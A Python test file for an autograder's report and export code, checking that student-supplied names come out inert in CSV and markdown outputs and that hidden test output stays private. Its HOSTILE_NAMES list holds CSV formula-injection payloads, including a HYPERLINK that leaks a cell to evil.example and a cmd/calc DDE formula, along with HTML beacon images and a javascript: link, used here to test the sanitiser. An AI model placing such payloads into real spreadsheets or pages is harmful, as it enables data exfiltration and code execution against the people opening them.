"""grade-all's outputs for the next step, and every one of them inert: scores.csv with
the reason sentences, gradescope.csv for Gradescope's score upload, a feedback file per
student that shows only what the student may see, report.md's statistics over the
submissions graded at all. Hostile names (spreadsheet formulas, markdown, HTML, control
characters) beside honest ones (no grading run: the results are written here)."""

import csv
import json
import re
import shutil
import types

import pytest

from autograder.build import layout
from autograder.runtime import config, outcomes
from autograder.staff import export, inert, intake, reasons, report
from tests.test_config import GOOD

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\tTab", "\rCR", "  =1+1", "<img src=http://evil.example/beacon.png>", "![x](http://evil.example/p.png)",
    "[click](javascript:alert(1))", "a | b", "**bold** _it_ `code`", "\x1b[31mred\x1b[0m", "line\nbreak",
    "&lt;script&gt;",
]


def test_csv_cells_never_start_a_formula():
    for name in HOSTILE_NAMES:
        cell = inert.csv_cell(name)
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
        assert "\x1b" not in cell
    assert inert.csv_cell("Ada Lovelace") == "Ada Lovelace"  # the honest twin, unchanged
    assert inert.csv_cell("ada@example.edu") == "ada@example.edu"
    assert inert.csv_cell("=1+1") == "'=1+1"


def test_markdown_text_has_no_markup_left():
    for name in HOSTILE_NAMES:
        text = inert.md_text(name)
        assert "<" not in text and ">" not in text and "\n" not in text and "\x1b" not in text
        assert not re.search(r"(?<!\\)[\[\]!|`*]", text), (name, text)  # every one escaped
        for at in (i for i, c in enumerate(text) if c == "_"):  # "_" escaped, or inside a word
            assert text[at - 1] == "\\" or (text[at - 1].isalnum() and text[at + 1:at + 2].isalnum()), (name, text)
    assert inert.md_text("Ada Lovelace") == "Ada Lovelace"
    assert inert.md_text("submission_12") == "submission_12"  # "_" inside a word is never emphasis
    assert inert.md_text("RuntimeError: setup.sh failed (x)") == "RuntimeError: setup.sh failed (x)"
    block = inert.md_block("```\n</pre><img src=x>\n    ok")
    assert all(line.startswith("    ") or not line for line in block.splitlines())


def test_every_reason_code_has_a_sentence():
    for code in (*outcomes.ALL, *intake.CODES):
        assert code in reasons.SENTENCES and reasons.SENTENCES[code], code
    assert set(reasons.STATUSES) >= {"error", "timeout"}


def results(graded, *, bonus=None, codes=None, found=True, import_errors=None, output="feedback"):
    """A results.json: a visible test, a hidden one, one shown after publishing and,
    when ``bonus`` is given, an extra-credit test. ``codes``: the cases' reason codes."""
    codes = codes or {"passed": 2}
    tests = [
        {"name": "shape", "number": "1.1", "score": min(graded, 4), "max_score": 4.0, "visibility": "visible",
         "status": "passed" if graded >= 4 else "failed", "output": f"visible {output}",
         "extra_data": {"reason": next(iter(codes)), "cases": codes}},
        {"name": "values", "number": "1.2", "score": max(0, min(graded - 4, 4)), "max_score": 4.0,
         "visibility": "after_published", "status": "passed" if graded >= 8 else "failed",
         "output": "after publish: expected 7 got 3", "extra_data": {"reason": next(iter(codes)), "cases": codes}},
        {"name": "secret", "number": "1.3", "score": max(0, graded - 8), "max_score": 2.0, "visibility": "hidden",
         "status": "passed" if graded >= 10 else "failed", "output": "SECRET hidden input 0xC0FFEE",
         "extra_data": {"reason": next(iter(codes)), "cases": codes}},
    ]
    if bonus is not None:
        tests.append({"name": "speed", "number": "2.1", "score": bonus, "max_score": 0.0, "visibility": "visible",
                      "status": "passed", "output": "", "extra_data": {"reason": "passed", "cases": {"passed": 1}}})
    return {"score": graded + (bonus or 0), "output": "Summary for the student.",
            "extra_data": {"version": "1", "submission": {"found": found, "missing": [],
                                                          "import_errors": import_errors or {}}}, "tests": tests}


def read_lines(path):
    return path.read_text(encoding="utf-8").splitlines(keepends=True)


def write_class(tmp_path, plans, people=None):
    """``plans``: {id: results or an outcome status}; returns (submissions, outcomes)."""
    (tmp_path / "results").mkdir(exist_ok=True)
    subs, done = [], {}
    for i, (sub_id, plan) in enumerate(plans.items()):
        who = (people or {}).get(sub_id, (export.Submitter(f"Name {sub_id}", f"{sub_id}@example.edu", str(i)),))
        subs.append(export.Submission(sub_id, tmp_path, who))
        if isinstance(plan, dict):
            (tmp_path / "results" / f"{sub_id}.json").write_text(json.dumps(plan))
            done[sub_id] = types.SimpleNamespace(status="graded", message="", reason="")
        else:
            status, reason, message = plan
            done[sub_id] = types.SimpleNamespace(status=status, message=message, reason=reason)
    return subs, done


def test_hostile_names_and_exception_names_land_inert_everywhere(tmp_path):
    people = {f"s{i}": (export.Submitter(name, name, name),) for i, name in enumerate(HOSTILE_NAMES)}
    plans = {sub_id: results(5, import_errors={"conv": "<img src=http://evil.example/x.png>|*"})
             for sub_id in people}
    plans["honest"] = results(10)
    subs, done = write_class(tmp_path, plans, people)
    report.write_report(tmp_path, subs, done)
    for name in ("scores.csv", "gradescope.csv"):
        with open(tmp_path / name, newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
                    assert "\x1b" not in cell
    rows = {r["id"]: r for r in csv.DictReader(read_lines(tmp_path / "scores.csv"))}
    assert rows["s0"]["name"] == "'" + HOSTILE_NAMES[0] and rows["honest"]["name"] == "Name honest"
    for path in [tmp_path / "report.md", *sorted((tmp_path / "feedback").glob("*.md"))]:
        text = path.read_text().replace("![Histogram of totals](scores.png)", "")  # the report's own picture
        assert "<img" not in text and "<script" not in text and "\x1b" not in text, path
        assert not re.search(r"(?<!\\)!\[|(?<!\\)\]\(", text), path  # no image or link syntax left
        for line in text.splitlines():
            if line.startswith("|"):  # a table row keeps its columns
                assert len(re.findall(r"(?<!\\)\|", line)) == len(re.findall(r"(?<!\\)\|", _header(text, line))), line
    assert "did not import: conv.py (&lt;img src=http://evil.example/x.png&gt;\\|\\*)" in (
        tmp_path / "report.md").read_text()


def _header(text: str, row: str) -> str:
    """The header line of the table that holds ``row``."""
    lines = text.splitlines()
    at = lines.index(row)
    while at > 0 and lines[at - 1].startswith("|"):
        at -= 1
    return lines[at]


def test_gradescope_csv_one_row_per_student_with_the_total(tmp_path):
    pair = (export.Submitter("Ada", "ada@example.edu", "1815"), export.Submitter("Charles", "cb@example.edu", "1791"))
    plans = {"g": results(10, bonus=1.5), "solo": results(4), "nameless": results(8),
             "broken": ("error", "", "RuntimeError: x"), "bad": ("refused", intake.SPECIAL_FILE, "holds a FIFO")}
    subs, done = write_class(tmp_path, plans, {"g": pair, "nameless": ()})
    report.write_report(tmp_path, subs, done)
    rows = list(csv.reader(read_lines(tmp_path / "gradescope.csv")))
    assert rows[0] == ["Name", "SID", "Email", "Total Score"]
    assert rows[1:] == [["Ada", "1815", "ada@example.edu", "11.5"], ["Charles", "1791", "cb@example.edu", "11.5"],
                        ["Name solo", "1", "solo@example.edu", "4"]]
    text = (tmp_path / "report.md").read_text()
    assert "3 rows for Gradescope's score upload" in text
    assert "Not in gradescope.csv (graded, but no email or SID in the metadata): nameless." in text


def test_feedback_shows_what_the_student_may_see(tmp_path):
    subs, done = write_class(tmp_path, {"a": results(7, output="<b>look</b>\n```\nend")})
    report.write_report(tmp_path, subs, done)
    text = (tmp_path / "feedback" / "a.md").read_text()
    assert "**Score: 7 / 10**" in text and "Summary for the student." in text
    assert "| 1.1 shape | 4/4 | passed |" in text and "| 1.2 values | 3/4 | failed |" in text
    assert "after publish: expected 7 got 3" in text  # after_published: shown once published
    assert "SECRET" not in text and "secret" not in text and "0xC0FFEE" not in text  # hidden: never
    assert "1 more test worth 2 points (never shown to students) is not listed." in text
    assert "    visible <b>look</b>" in text and "    ```" in text  # inside an indented code block: shown, not rendered

    report.write_report(tmp_path, subs, done, published=False)
    before = (tmp_path / "feedback" / "a.md").read_text()
    assert "Score" not in before and "after publish" not in before and "SECRET" not in before
    assert "| 1.1 shape | 4/4 | passed |" in before
    assert "1 more test worth 4 points (shown when grades are published) is not listed." in before
    assert "1 more test worth 2 points (never shown to students) is not listed." in before
    assert "before grades are published" in (tmp_path / "report.md").read_text()


def test_statistics_count_only_submissions_graded_at_all(tmp_path):
    stubs = {"not_implemented": 3}
    plans = {
        "good": results(10), "half": results(5), "low": results(2, codes={"failed": 1, "passed": 1}),
        "empty": results(0, found=False, codes={"unavailable": 3}),
        "noimport": results(0, codes={"unavailable": 3}, import_errors={"conv": "SyntaxError"}),
        "stub1": results(0, codes=stubs), "stub2": results(0, codes={"not_implemented": 2, "unavailable": 1}),
        "crashed": ("error", "", "RuntimeError: boom"), "bad": ("refused", intake.OUTSIDE_EXPORT, "names '../x'"),
    }
    subs, done = write_class(tmp_path, plans)
    report.write_report(tmp_path, subs, done)
    text = (tmp_path / "report.md").read_text()
    assert ("The statistics below count the 3 submissions graded at all; 6 left out: 2 could not be graded "
            "(see Grading problems), 1 empty (none of the expected files), 1 no code ran (nothing imports), "
            "2 only stubs (every function not implemented).") in text
    assert "graded part: mean 5.67, median 5, min 2, max 10 (out of 10)" in text
    assert "| 1.1 | shape | 4 | 2/3 | 67% |" in text  # not 2/7: the stubs and the empty one do not count
    assert "extra credit" not in text  # this assignment has none
    assert "| bad | Name bad | refused | outside_export | names '../x' |" in text
    rows = {r["id"]: r for r in csv.DictReader(read_lines(tmp_path / "scores.csv"))}
    assert rows["bad"]["reasons"] == "outside_export=1"
    assert rows["bad"]["reason_text"] == f"outside_export: {reasons.SENTENCES['outside_export']} (names '../x')"
    assert rows["stub1"]["reason_text"] == "not_implemented: " + reasons.SENTENCES["not_implemented"]
    assert rows["crashed"]["status"] == "error" and rows["crashed"]["total"] == ""


def test_extra_credit_line_only_for_an_assignment_with_extra_credit(tmp_path):
    subs, done = write_class(tmp_path, {"a": results(10, bonus=0.0), "b": results(6, bonus=2.0)})
    report.write_report(tmp_path, subs, done)
    assert "extra credit (on top): 1 of 2 submissions earned some" in (tmp_path / "report.md").read_text()
    subs, done = write_class(tmp_path, {"a": results(10, bonus=0.0), "b": results(6, bonus=0.0)})
    report.write_report(tmp_path, subs, done)
    assert "extra credit: none earned" in (tmp_path / "report.md").read_text()


# -- two assignments, one slug ------------------------------------------------------------------

def test_two_assignments_with_one_slug_stop_the_build_naming_both(tmp_path):
    one, two = tmp_path / "one" / "assignment.yaml", tmp_path / "two" / "assignment.yaml"
    for path in (one, two):
        path.parent.mkdir()
        path.write_text(GOOD)
    base = tmp_path / "project"
    first = layout.outputs(config.load(one), base=base)
    layout.claim(config.load(one), first)
    layout.claim(config.load(one), first)  # the same assignment again: its own outputs
    with pytest.raises(config.ConfigError) as err:
        layout.claim(config.load(two), layout.outputs(config.load(two), base=base))
    message = str(err.value)
    assert str(two) in message and str(one) in message and "slug" in message and "another slug" in message
    two.write_text(GOOD.replace("slug: a", "slug: b"))  # the honest twin: its own slug
    layout.claim(config.load(two), layout.outputs(config.load(two), base=base))
    shutil.rmtree(one.parent)  # a copy moved away: the other may take the slug over
    two.write_text(GOOD)
    layout.claim(config.load(two), layout.outputs(config.load(two), base=base))


def test_layout_main_prints_the_error_and_writes_nothing(tmp_path, monkeypatch, capsys):
    one, two = tmp_path / "one" / "assignment.yaml", tmp_path / "two" / "assignment.yaml"
    for path in (one, two):
        path.parent.mkdir()
        path.write_text(GOOD)
    monkeypatch.chdir(tmp_path)
    assert layout.main([str(one)]) == 0
    assert layout.main([str(two)]) == 2
    err = capsys.readouterr().err
    assert f"{two.resolve()}: slug:" in err and str(one.resolve()) in err
    assert not (tmp_path / "dist").exists()
